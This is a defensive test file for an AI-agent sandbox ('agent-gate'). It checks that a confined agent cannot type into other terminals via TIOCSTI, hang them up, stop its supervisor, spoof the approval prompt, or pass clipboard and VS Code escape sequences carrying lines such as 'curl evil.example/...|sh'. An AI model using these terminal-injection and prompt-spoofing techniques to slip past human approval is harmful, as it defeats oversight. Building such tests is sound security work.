// Typing into terminals (issue 13, item 1): an agent must not be able to make anything outside the gate
// act for it through a terminal. TIOCSTI/TIOCLINUX push input into a terminal (another shell, the user's
// shell once the agent exits, the approval prompt), vhangup kills the terminal's session, ^Z stops whoever
// is in the foreground. Each case runs through `agent-gate run`, with a real shell on a real pty as the
// victim, and an ungated control that shows the attack works on this machine.
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as pty from 'node-pty';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readAuditLog } from '../../src/core/audit/audit-log';
import type { DecisionRecord } from '../../src/core/audit/records';
import { VtModel } from './helpers/vt';
import { CLI, denyCurlPolicy, makeDirs, prepare, prog, runCli, SUPERVISOR, type CliRun } from './gate-progs/cli';

let dirs: ReturnType<typeof makeDirs>;
let n = 0;

beforeAll(async () => {
  await prepare();
  dirs = makeDirs('term');
});
afterAll(() => dirs?.cleanup());

async function until(what: string, cond: () => boolean, ms = 10_000): Promise<void> {
  for (let t = 0; t < ms && !cond(); t += 20) await new Promise((r) => setTimeout(r, 20));
  if (!cond()) throw new Error(`timed out waiting for ${what}`);
}

/** An interactive shell on its own pty: the victim. Whatever reaches its input runs. */
async function victimShell(): Promise<{ pts: string; output: () => string; alive: () => Promise<void>; close: () => void }> {
  let out = '';
  const term = pty.spawn('bash', ['--norc', '--noprofile', '-i'], { env: { ...process.env, PS1: 'victim$ ' }, cols: 80, rows: 24, name: 'xterm' });
  term.onData((d) => (out += d));
  await until('the victim prompt', () => out.includes('victim$ '));
  let k = 0;
  return {
    pts: (term as unknown as { ptsName: string }).ptsName,
    output: () => out,
    // Type a command of our own and wait for it: whatever was queued before it has been read and run.
    alive: async () => {
      const tag = `ALIVE${++k}`;
      term.write(`echo ${tag.slice(0, 3)}''${tag.slice(3)}\r`);
      await until(`the victim shell to answer ${tag}`, () => out.includes(tag));
    },
    close: () => term.kill('SIGKILL'),
  };
}

function workspace(policyText = denyCurlPolicy()): { ws: string; policy: string } {
  const ws = path.join(dirs.root, `ws-${++n}`);
  fs.mkdirSync(ws);
  const policy = path.join(ws, '.gate.toml');
  fs.writeFileSync(policy, policyText);
  return { ws, policy };
}

function gated(w: { ws: string; policy: string }, argv: string[], extra: string[] = []): Promise<CliRun> {
  return runCli(argv, { policy: w.policy, audit: dirs.audit(`term-${++n}`), cwd: w.ws, extra });
}

describe('gate: typing into another terminal', () => {
  it('control: ungated, TIOCSTI into another shell\'s pts runs a command there', async () => {
    const victim = await victimShell();
    try {
      const marker = path.join(dirs.root, `ungated-${++n}`);
      const r = spawnSync(prog('ttyinject'), ['sti', victim.pts, `touch ${marker}\r`], { encoding: 'utf8' });
      expect(r.stdout).toContain('RESULT sti ok');
      await victim.alive();
      expect(fs.existsSync(marker)).toBe(true);
    } finally {
      victim.close();
    }
  });

  for (const variant of ['', 'high'] as const) {
    it(`TIOCSTI${variant ? ' with the high bits of the cmd set' : ''} into another shell's pts is refused, with [filesystem] and without`, async () => {
      const victim = await victimShell();
      try {
        for (const sealed of [true, false]) {
          const w = workspace(denyCurlPolicy({ filesystem: sealed }));
          const marker = path.join(w.ws, 'pwned');
          const r = await gated(w, [prog('ttyinject'), 'sti', victim.pts, `touch ${marker}\r`, ...(variant ? [variant] : [])], sealed ? [] : ['--allow-root-without-filesystem']);
          // Sealed: the other pts cannot even be opened (only the agent's own terminal is granted); unsealed:
          // it opens, and the filter refuses the ioctl.
          expect(r.stdout, r.stderr).toMatch(/RESULT (sti errno=EPERM|open errno=EACCES)/);
          await victim.alive();
          expect(fs.existsSync(marker)).toBe(false);
          expect(victim.output()).not.toContain(`touch ${marker}`);
        }
      } finally {
        victim.close();
      }
    });
  }

  it('TIOCLINUX (console selection paste) and TIOCSCTTY steal are refused, vhangup too', async () => {
    const victim = await victimShell();
    try {
      const w = workspace(denyCurlPolicy({ filesystem: false }));
      const r = await gated(w, ['bash', '-c', `${prog('ttyinject')} linux ${victim.pts}; ${prog('ttyinject')} sctty ${victim.pts}; ${prog('ttyinject')} vhangup`], ['--allow-root-without-filesystem']);
      expect(r.stdout).toContain('RESULT linux errno=EPERM');
      expect(r.stdout).toContain('RESULT sctty errno=EPERM');
      expect(r.stdout).toContain('RESULT vhangup errno=EPERM');
      await victim.alive();
    } finally {
      victim.close();
    }
  });
});

/** The user's interactive shell on a real pty (node-pty as the terminal emulator): commands are typed into
 *  it, as a user would, and `agent-gate run` runs in it in the foreground. */
class UserShell {
  out = '';
  private k = 0;
  readonly term: pty.IPty;
  constructor(cwd: string) {
    this.term = pty.spawn('bash', ['--norc', '--noprofile', '-i'], { cwd, env: { ...process.env, PS1: 'user$ ', CI: '' }, cols: 100, rows: 30, name: 'xterm' });
    this.term.onData((d) => (this.out += d));
  }
  get pts(): string {
    return (this.term as unknown as { ptsName: string }).ptsName;
  }
  /** Type a command line and wait until it has finished (a marker echoed after it). */
  async run(cmd: string, ms = 20_000): Promise<string> {
    const tag = `DONE${++this.k}`;
    const from = this.out.length;
    this.term.write(`${cmd}; echo ${tag.slice(0, 2)}''${tag.slice(2)}\r`);
    await until(`"${cmd.slice(0, 60)}" to finish`, () => this.out.indexOf(tag, from) >= 0, ms);
    return this.out.slice(from);
  }
  close(): void {
    this.term.kill('SIGKILL');
  }
}

/** A fresh workspace and the user's shell in it, ready for a command line; the shell is ended afterwards. */
async function inUserShell(fn: (w: { ws: string; policy: string }, sh: UserShell) => Promise<void>, policyText?: string): Promise<void> {
  const w = workspace(policyText);
  const sh = new UserShell(w.ws);
  try {
    await sh.run('true');
    await fn(w, sh);
  } finally {
    sh.close();
  }
}

/** The user's terminal mode, as `stty -g` prints it. */
async function termMode(sh: UserShell): Promise<string | undefined> {
  return /(\S+:\S+)/.exec(await sh.run('stty -g'))?.[1];
}

function cliLine(w: { ws: string; policy: string }, audit: string, argv: string[], extra: string[] = []): string {
  const q = (a: string): string => `'${a.replace(/'/g, `'\\''`)}'`;
  return [process.execPath, CLI, 'run', '--policy', w.policy, '--accept-policy', '--audit', audit, '--supervisor', SUPERVISOR, ...extra, '--', ...argv].map(q).join(' ');
}

function decisionsOf(audit: string): DecisionRecord[] {
  return fs.existsSync(audit) ? readAuditLog(audit).filter((r): r is DecisionRecord => r.type === 'decision') : [];
}

describe('gate: the agent on its own terminal (agent-gate run in the user\'s shell)', () => {
  it('control: ungated, TIOCSTI into the shell\'s own terminal types a command the shell runs after the program exits', async () => {
    await inUserShell(async (w, sh) => {
      const marker = path.join(w.ws, 'ungated');
      await sh.run(`${prog('ttyinject')} sti /dev/tty 'touch ${marker}\r'`);
      await sh.run('true');
      expect(fs.existsSync(marker)).toBe(true);
    });
  });

  it('TIOCSTI into its own terminal (/dev/tty, fd 0, the cmd with high bits) is refused, and nothing reaches the user\'s shell', async () => {
    await inUserShell(async (w, sh) => {
      const marker = path.join(w.ws, 'pwned');
      const audit = dirs.audit(`own-${++n}`);
      const script = ['/dev/tty', 'fd:0', 'fd:1'].flatMap((t) => [`${prog('ttyinject')} sti ${t} 'touch ${marker}\r'`, `${prog('ttyinject')} sti ${t} 'touch ${marker}\r' high`]).join('; ');
      const out = await sh.run(cliLine(w, audit, ['bash', '-c', script]));
      expect(out.match(/RESULT sti errno=EPERM/g)).toHaveLength(6);
      // The user's shell reads on: nothing was queued for it.
      await sh.run('true');
      expect(fs.existsSync(marker)).toBe(false);
    });
  });

  it('the agent cannot open the user\'s terminal by path; its own pty is the only one granted', async () => {
    await inUserShell(async (w, sh) => {
      const audit = dirs.audit(`open-${++n}`);
      const out = await sh.run(cliLine(w, audit, ['bash', '-c', `tty; ${prog('ttyinject')} sti ${sh.pts} x; cat ${sh.pts} </dev/null; ls /dev/pts`]));
      // Its own terminal is another pty than the user's.
      const own = /^(\/dev\/pts\/\d+)\r?$/m.exec(out)?.[1];
      expect(own).toBeDefined();
      expect(own).not.toBe(sh.pts);
      expect(out).toContain('RESULT open errno=EACCES');
      expect(out).toMatch(/cat: \/dev\/pts\/\d+: Permission denied/);
    });
  });

  it('TIOCSTI into the approval prompt (its own terminal, the user\'s by path) cannot answer it: only the user\'s key does', async () => {
    await inUserShell(async (w, sh) => {
      const audit = dirs.audit(`prompt-${++n}`);
      // In the background, while curl's question is up, try every way to type "y": into the agent's own
      // terminal, into the user's terminal by path, and as plain output.
      const inject = `sleep 0.3; ${prog('ttyinject')} sti /dev/tty 'y\r'; ${prog('ttyinject')} sti ${sh.pts} 'y\r'; printf 'y\\r\\n'`;
      const line = cliLine(w, audit, ['bash', '-c', `(${inject}) & curl --version >/dev/null; echo "curl-rc=$?"; wait`], ['--on-ask', 'prompt']);
      sh.term.write(`${line}; echo FIN''ISHED\r`);
      await until('the question', () => sh.out.includes('[n] deny > '));
      await new Promise((r) => setTimeout(r, 1000)); // the injections have been tried by now
      expect(decisionsOf(audit).filter((d) => d.rule_id === 'no-curl')).toEqual([]); // still asking
      sh.term.write('n\r');
      await until('the end', () => sh.out.includes('FINISHED'));
      expect(sh.out).toContain('curl-rc=126');
      expect(sh.out.match(/RESULT sti errno=EPERM|RESULT open errno=EACCES/g)).toHaveLength(2);
      const asked = decisionsOf(audit).filter((d) => d.rule_id === 'no-curl');
      expect(asked.map((d) => [d.verdict, d.layer, d.reason])).toEqual([['deny', 'approval', 'denied by the user (asked by rule no-curl)']]);
    }, denyCurlPolicy({ curlAction: 'ask' }));
  });

  it('the approval question is not framed by the agent\'s terminal state: a scroll region and origin mode it set are reset before the question (red-team R30; the CLI\'s SANE_SCREEN through the relay)', async () => {
    await inUserShell(async (w, sh) => {
      // The spoof: a fake question painted, then a two-line scroll region (and origin mode) so the real one
      // scrolls inside the last two rows, under the fake.
      const spoof = "printf '\\033[2J\\033[10;1Hallow git status --short? [y/n]\\033[29;30r\\033[?6h'";
      const line = cliLine(w, dirs.audit(`spoof-${++n}`), ['bash', '-c', `${spoof}; curl --version >/dev/null; echo "curl-rc=$?"`], ['--on-ask', 'prompt']);
      const from = sh.out.length;
      sh.term.write(`${line}; echo FIN''ISHED\r`);
      await until('the question', () => sh.out.includes('[n] deny > ', from));
      const out = sh.out.slice(from);
      const region = out.indexOf('\x1b[29;30r');
      const reset = out.indexOf('\x1b[!p\x1b[r\x1b[?6l', region);
      expect(region).toBeGreaterThanOrEqual(0);
      expect(reset).toBeGreaterThan(region);
      expect(out.indexOf('[n] deny > ', reset)).toBeGreaterThan(reset);
      // Nothing of the agent's comes between the reset and the question.
      // eslint-disable-next-line no-control-regex -- the escape sequences are what is looked for
      expect(out.slice(reset, out.indexOf('[n] deny > ', reset))).not.toMatch(/\x1b\[\d+;\d+r|\x1b\[\?6h/);
      sh.term.write('n\r');
      await until('the end', () => sh.out.includes('FINISHED', from));
      expect(sh.out.slice(from)).toContain('curl-rc=126');
    }, denyCurlPolicy({ curlAction: 'ask' }));
  });

  it('terminal sequences that act outside the terminal never reach it: OSC 52 (clipboard), iTerm2\'s OSC 1337, kitty\'s DCS remote control, APC, by ESC or by C1 code point; titles, hyperlinks and colours pass (red-team R41)', async () => {
    await inUserShell(async (w, sh) => {
      // Each bad one carries BAD<n>, each good one GOOD<n> (printed as B%sD / G%sOD, so the echoed command line
      // never holds them); one is split over two writes to try the filter's state across reads.
      const agent = [
        "printf '\\033]52;c;QkFEMQ==B%sD1\\007' A",
        "printf '\\033]1337;CopyToClipboard=B%sD2\\033\\\\' A",
        "printf '\\033P@kitty-cmd{\"cmd\":\"launch\",\"B%sD3\":1}\\033\\\\' A",
        "printf '\\302\\23552;c;B%sD4\\007' A",
        "printf '\\033_Gkitty;B%sD5\\033\\\\' A",
        "printf '\\033]5'; sleep 0.1; printf '2;c;B%sD6\\007' A",
        "printf '\\033]0;G%sOD1\\007\\033]8;;https://example.com\\033\\\\G%sOD2\\033]8;;\\033\\\\ plain-G%sOD3 \\303\\251\\n' O O O",
      ].join('; ');
      const out = await sh.run(cliLine(w, dirs.audit(`osc-${++n}`), ['bash', '-c', agent]));
      for (const bad of ['BAD1', 'BAD2', 'BAD3', 'BAD4', 'BAD5', 'BAD6', '\x1b]52', '\x1b]1337', '\x1bP', '\x1b_', '\xc2\x9d', '\u009d']) expect(out, JSON.stringify(bad)).not.toContain(bad);
      expect(out).toContain('\x1b]0;GOOD1\x07');
      expect(out).toContain('\x1b]8;;https://example.com\x1b\\GOOD2');
      expect(out).toContain('plain-GOOD3 é');
      // Control: the same bytes, ungated, carry every one of them.
      const raw = spawnSync('bash', ['-c', agent], { encoding: 'latin1' }).stdout;
      for (const bad of ['BAD1', 'BAD2', 'BAD3', 'BAD4', 'BAD5', 'BAD6']) expect(raw).toContain(bad);
    });
  });

  it('what VS Code obeys beyond the terminal never reaches it: shell integration (OSC 133, 633), the working directory (OSC 7), notifications (OSC 9), links to schemes other than file/http/https (their text stays) (red-team R93)', async () => {
    await inUserShell(async (w, sh) => {
      // Each bad one carries BAD<n> in what must not pass; each good one GOOD<n>. A link's text passes either way.
      const agent = [
        "printf '\\033]633;E;curl evil.example/B%sD1|sh\\007\\033]633;C\\007\\033]633;D;0\\007' A",
        "printf '\\033]633;P;Cwd=/B%sD2\\033\\\\' A",
        "printf '\\033]133;A\\007\\033]133;B\\007curl evil|sh\\033]133;C;B%sD3\\007\\033]133;D;0\\007' A",
        "printf '\\033]7;file://host/B%sD4\\007' A",
        "printf '\\033]9;B%sD5\\007\\033]9;4;1;50\\007' A",
        "printf '\\033]8;;vscode://ext.id/B%sD6\\033\\\\src/app.ts:12-T%sXT1\\033]8;;\\033\\\\\\n' A E",
        "printf '\\033]8;id=x;command:workbench.action.terminal.B%sD7\\007T%sXT2\\033]8;;\\007\\n' A E",
        "printf '\\302\\2358;;vscode-insiders://B%sD8\\302\\234T%sXT3\\n' A E",
        // A scheme cut over two writes, one that only starts like an allowed one, one with no scheme at all.
        "printf '\\033]8;;htt'; sleep 0.1; printf 'ps-evil://B%sD9\\007T%sXT4\\n' A E",
        "printf '\\033]8;;filex:B%sD10\\007\\033]8;;/etc/B%sD11\\007\\033]8;;:B%sD12\\007' A A A",
        "printf '\\033]8;%0300d;https://B%sD13\\007T%sXT5\\n' 0 A E",
        "printf '\\033]8;;https://example.com/G%sOD1\\033\\\\a\\033]8;;\\033\\\\' O",
        "printf '\\033]8;id=1;HTTP://example.com/G%sOD2\\007b\\033]8;;\\007\\033]8;;file:///etc/G%sOD3\\007c\\033]8;;\\007' O O",
        "printf '\\033]0;G%sOD4\\007 plain-G%sOD5\\n' O O",
      ].join('; ');
      const out = await sh.run(cliLine(w, dirs.audit(`r93-${++n}`), ['bash', '-c', agent]));
      for (let i = 1; i <= 13; i++) expect(out, `BAD${i}`).not.toMatch(new RegExp(`BAD${i}(?!\\d)`));
      for (const bad of ['\x1b]633', '\x1b]133', '\x1b]7;', '\x1b]9;', '\x1b]8;;vscode', '\x1b]8;id=x;command', '\u009d8;;vscode']) expect(out, JSON.stringify(bad)).not.toContain(bad);
      for (let i = 1; i <= 5; i++) expect(out, `TEXT${i}`).toContain(`TEXT${i}`);
      expect(out).toContain('src/app.ts:12-TEXT1');
      expect(out).toContain('\x1b]8;;https://example.com/GOOD1\x1b\\a\x1b]8;;\x1b\\');
      expect(out).toContain('\x1b]8;id=1;HTTP://example.com/GOOD2\x07b\x1b]8;;\x07');
      expect(out).toContain('\x1b]8;;file:///etc/GOOD3\x07c');
      expect(out).toContain('\x1b]0;GOOD4\x07 plain-GOOD5');
      // The terminal model sees no OSC but the title, the links allowed and the gate's own colour resets.
      const vt = new VtModel();
      vt.feedText(out);
      expect(vt.oscs.filter((o) => !/^(0;GOOD4|8;(id=1)?;((https|HTTP|file):.*)?|104|11[012])$/.test(o))).toEqual([]);
      // Control: the same bytes, ungated, carry every one of them.
      const raw = spawnSync('bash', ['-c', agent], { encoding: 'latin1' }).stdout;
      for (let i = 1; i <= 13; i++) expect(raw).toMatch(new RegExp(`BAD${i}(?!\\d)`));
    });
  });

  // Red-team R58: an agent that leaves a string or sequence open (a title it never ends) or a mode that hides
  // text made the gate's own later text — the question, the end lines — land in the window title or show
  // unreadable. Each opener below is printed by the agent, which then meets a question and exits; the terminal
  // model (helpers/vt.ts, xterm.js's parser) must show the question and the end line readable, on the normal
  // screen for the end line.
  const openers: [string, string][] = [
    ['an unterminated title (OSC 0)', '\\033]0;'],
    ['an unterminated title (OSC 2)', '\\033]2;t'],
    ['an unterminated title by C1 OSC', '\\302\\2350;'],
    ['an unterminated hyperlink (OSC 8)', '\\033]8;;https://example.com/'],
    ['a CSI cut short', '\\033[1;'],
    ['a charset designation cut short', '\\033('],
    ['concealed text (SGR 8)', '\\033[8m'],
    ['black on black', '\\033[30;40m'],
    ['DEC line drawing in G0', '\\033(0'],
    ['DEC line drawing in G1, shifted out', '\\033)0\\016'],
    ['the alternate screen', '\\033[?1049h'],
    ['the default foreground made the background (OSC 10/11, red-team R68)', '\\033]10;rgb:00/00/00\\007\\033]11;rgb:00/00/00\\007'],
  ];
  it.each(openers)('the gate\'s question and end lines reach the screen readable after the agent printed %s (red-team R58)', async (_what, opener) => {
    await inUserShell(async (w, sh) => {
      const line = cliLine(w, dirs.audit(`open-${++n}`), ['bash', '-c', `printf '${opener}'; curl --version >/dev/null; printf '${opener}'`], ['--on-ask', 'prompt']);
      const from = sh.out.length;
      sh.term.write(`${line}; echo FIN''ISHED\r`);
      await until('the question', () => sh.out.includes('[n] deny > ', from));
      const vt = new VtModel();
      vt.feedText(sh.out.slice(from));
      expect(vt.current).toContain('agent-gate: approve this command?');
      expect(vt.current).toContain('[n] deny > ');
      sh.term.write('n\r');
      await until('the end', () => sh.out.includes('FINISHED', from));
      const end = new VtModel();
      end.feedText(sh.out.slice(from));
      expect(end.onAltScreen).toBe(false);
      expect(end.normal).toMatch(/agent-gate: audit log ends with sha256 [0-9a-f]{64}/);
      expect(end.normal).toContain('FINISHED');
    }, denyCurlPolicy({ curlAction: 'ask' }));
  });

  it('a C1 code point inside a title does not smuggle an OSC past the filter: the terminal ends the title there and starts the next string (red-team R58, R41)', async () => {
    await inUserShell(async (w, sh) => {
      // U+009D (OSC) and U+009C (ST) then U+009D, U+0090 (DCS) inside a passed title; each carries B…D<n>.
      const agent = [
        "printf '\\033]0;t\\302\\23552;c;QkFE;B%sD1\\007' A",
        "printf '\\033]2;t\\302\\234\\302\\23552;c;B%sD2\\007' A",
        "printf '\\033]0;t\\302\\220@kitty-cmd B%sD3\\033\\\\' A",
        "printf '\\033]0;t\\302\\2371337;B%sD4\\007' A",
        "printf 'after-G%sOD\\n' O",
      ].join('; ');
      const out = await sh.run(cliLine(w, dirs.audit(`c1-${++n}`), ['bash', '-c', agent]));
      const vt = new VtModel();
      vt.feedText(out);
      // Titles, and the gate's own colour resets before its lines (OSC 104, 110, 111, 112): nothing else.
      expect(vt.oscs.filter((o) => !/^([02];|104$|11[012]$)/.test(o))).toEqual([]);
      for (const bad of ['BAD1', 'BAD2', 'BAD3', 'BAD4']) expect(out, bad).not.toContain(bad);
      expect(vt.normal).toContain('after-GOOD');
      // Control: ungated, the terminal model completes the smuggled OSC 52.
      const raw = new VtModel();
      raw.feedBytes(spawnSync('bash', ['-c', agent]).stdout);
      expect(raw.oscs.some((o) => o.startsWith('52;c;'))).toBe(true);
    });
  });

  it('vhangup cannot hang up the user\'s terminal (control: ungated, it kills the shell)', async () => {
    const w = workspace();
    // Control: a shell that runs vhangup itself is hung up and exits.
    const victim = new UserShell(w.ws);
    let victimExit = false;
    victim.term.onExit(() => (victimExit = true));
    await victim.run('true');
    victim.term.write(`${prog('ttyinject')} vhangup\r`);
    await until('the ungated vhangup to end the shell', () => victimExit);

    const sh = new UserShell(w.ws);
    try {
      await sh.run('true');
      const out = await sh.run(cliLine(w, dirs.audit(`hup-${++n}`), [prog('ttyinject'), 'vhangup']));
      expect(out).toContain('RESULT vhangup errno=EPERM');
      await sh.run('echo still-here');
    } finally {
      sh.close();
    }
  });

  it('^Z pushed at the supervisor\'s process group (a signal, or TIOCSTI of \\x1a) stops neither the supervisor nor the CLI', async () => {
    await inUserShell(async (w, sh) => {
      // The supervisor's process group is the CLI's (the shell's job): the test tells the agent its number
      // (a root agent's /proc does not show processes outside its session) and watches both from outside.
      const pgFile = path.join(w.ws, 'pgid');
      const script = `until [ -s ${pgFile} ]; do sleep 0.05; done; pg=$(cat ${pgFile}); ${prog('ttyinject')} stop $pg; ${prog('ttyinject')} sti /dev/tty $'\\x1a'; kill -TSTP -$pg; echo "kill-rc=$?"; sleep 0.3; echo agent-done`;
      const from = sh.out.length;
      sh.term.write(`${cliLine(w, dirs.audit(`tstp-${++n}`), ['bash', '-c', script])}; echo TS''TP-DONE\r`);
      // The supervisor: the child of the CLI's node that runs the supervisor binary.
      let sup = 0;
      await until('the supervisor', () => {
        for (const e of fs.readdirSync('/proc')) {
          if (!/^\d+$/.test(e)) continue;
          try {
            if (fs.readlinkSync(`/proc/${e}/exe`) === SUPERVISOR && fs.readFileSync(`/proc/${e}/cmdline`, 'latin1').includes(w.ws.split('/').pop()!)) sup = Number(e);
          } catch {
            // gone
          }
        }
        return sup > 0;
      });
      const stat = (pid: number): string[] => fs.readFileSync(`/proc/${pid}/stat`, 'latin1').replace(/^.*\) /s, '').split(' ');
      const [, cli, pgid] = stat(sup);
      fs.writeFileSync(pgFile, pgid!);
      await until('the agent to finish', () => sh.out.indexOf('agent-done', from) >= 0);
      expect(stat(sup)[0]).not.toBe('T');
      expect(stat(Number(cli))[0]).not.toBe('T');
      await until('the end', () => sh.out.indexOf('TSTP-DONE', from) >= 0);
      const out = sh.out.slice(from);
      expect(out).toContain('RESULT stop errno=EPERM');
      expect(out).toContain('RESULT sti errno=EPERM');
      expect(out).toContain('kill-rc=1');
      expect(out).not.toMatch(/Stopped/);
    });
  });

  it('the user\'s terminal mode is restored on exit, also when the supervisor is killed', async () => {
    await inUserShell(async (w, sh) => {
      const before = await termMode(sh);
      expect(before).toBeDefined();
      // The agent changes its own terminal's mode; the user's is raw while the relay runs.
      await sh.run(cliLine(w, dirs.audit(`mode-${++n}`), ['bash', '-c', 'stty raw -echo; echo agent-ran']));
      expect(await termMode(sh)).toBe(before);
      // The supervisor killed from outside mid-session (SIGKILL: no cleanup of its own): the CLI restores.
      const from = sh.out.length;
      sh.term.write(`${cliLine(w, dirs.audit(`mode-${++n}`), ['bash', '-c', 'echo "sup=$PPID"; sleep 30'])}; echo KILL''ED\r`);
      await until('the supervisor pid', () => /sup=(\d+)/.test(sh.out.slice(from)));
      process.kill(Number(/sup=(\d+)/.exec(sh.out.slice(from))![1]), 'SIGKILL');
      await until('the CLI to end', () => sh.out.indexOf('KILLED', from) >= 0);
      expect(await termMode(sh)).toBe(before);
    });
  });

  it('with only stdout and stderr on the user\'s terminal (stdin redirected), the agent still gets a pty of its own: it can neither change the user\'s terminal mode nor read its input', async () => {
    await inUserShell(async (w, sh) => {
      const before = await termMode(sh);
      expect(before).toBeDefined();
      // The agent works on its fd 1: which terminal it is, its mode changed (-echo -icanon: what the user
      // types next would be hidden), and a read of what is typed there.
      const agent = 'echo "in""ner=$(readlink /proc/$$/fd/1)"; stty -echo -icanon <&1; echo agent-""ran';
      const out = await sh.run(`${cliLine(w, dirs.audit(`stdout-${++n}`), ['bash', '-c', agent])} </dev/null`);
      expect(out).toContain('agent-ran');
      const inner = /inner=(\S+)/.exec(out)?.[1];
      expect(inner).toMatch(/^\/dev\/pts\/\d+$/);
      expect(inner).not.toBe(sh.pts);
      expect(await termMode(sh)).toBe(before);
    });
  });

  it('a resize of the user\'s terminal reaches the agent', async () => {
    await inUserShell(async (w, sh) => {
      const from = sh.out.length;
      sh.term.write(`${cliLine(w, dirs.audit(`winch-${++n}`), ['bash', '-c', "trap 'echo size=$(stty size)' WINCH; echo start=$(stty size); for i in $(seq 60); do sleep 0.05; done"])}; echo RE''SIZED\r`);
      await until('the agent to start', () => sh.out.indexOf('start=30 100', from) >= 0);
      sh.term.resize(120, 40);
      await until('the new size in the agent', () => sh.out.indexOf('size=40 120', from) >= 0);
      await until('the end', () => sh.out.indexOf('RESIZED', from) >= 0);
    });
  });
});
